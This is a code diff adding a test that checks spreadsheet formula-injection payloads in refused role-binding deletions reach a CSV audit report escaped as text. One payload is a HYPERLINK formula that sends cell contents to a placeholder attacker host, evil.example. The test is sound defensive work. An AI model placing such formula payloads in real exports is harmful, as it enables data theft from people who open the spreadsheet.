@@ -163,6 +163,40 @@ for (const store of storeKinds) {
       }
     });
 
+    test('a refused request whose path names a formula reaches the CSV report as text, not a formula', async () => {
+      await clock.advance(hour);
+      const from = clock.now();
+      const crafted = [
+        '=HYPERLINK("http://evil.example/?"&A1,"open")',
+        '+1+1',
+        '-2+3',
+        '@SUM(1)',
+        '\tx',
+      ];
+      for (const id of crafted) {
+        const refused = await s.request('DELETE', `/role-bindings/${encodeURIComponent(id)}`, {
+          token: tokens.erin,
+        });
+        assert.equal(refused.status, 403, JSON.stringify(refused.body));
+      }
+      await clock.advance(hour);
+      const to = clock.now();
+      const json = await get(`/access/reports/changes?from=${from}&to=${to}`);
+      assert.deepEqual(
+        json.body.items.map((r: ApiAnswer) => r.targetId),
+        crafted,
+        'JSON carries what was sent',
+      );
+      const csv = await get(`/access/reports/changes?from=${from}&to=${to}&format=csv`);
+      const rows = parseCsv(csv.body as string).slice(1);
+      assert.deepEqual(
+        rows.map((row) => row[5]),
+        crafted.map((id) => `'${id}`),
+      );
+      // The sequence number is still a number, not neutralised text.
+      assert.equal(rows[0]![0], String(json.body.items[0].seq));
+    });
+
     test('changes to access in a period and actions by identity, from the audit trail, as JSON and CSV', async () => {
       await clock.advance(hour);
       const from = clock.now();
@@ -182,7 +216,7 @@ for (const store of storeKinds) {
       await s.request('POST', '/groups', { token: tokens.erin, body: { name: 'erins' } });
       await s.request('POST', '/users/me/password', {
         token: tokens.erin,
-        body: { password: 'erin-password-longer' },
+        body: { password: 'erin-password-longer', currentPassword: 'erin-password-long' },
       });
       await clock.advance(hour);
       const to = clock.now();
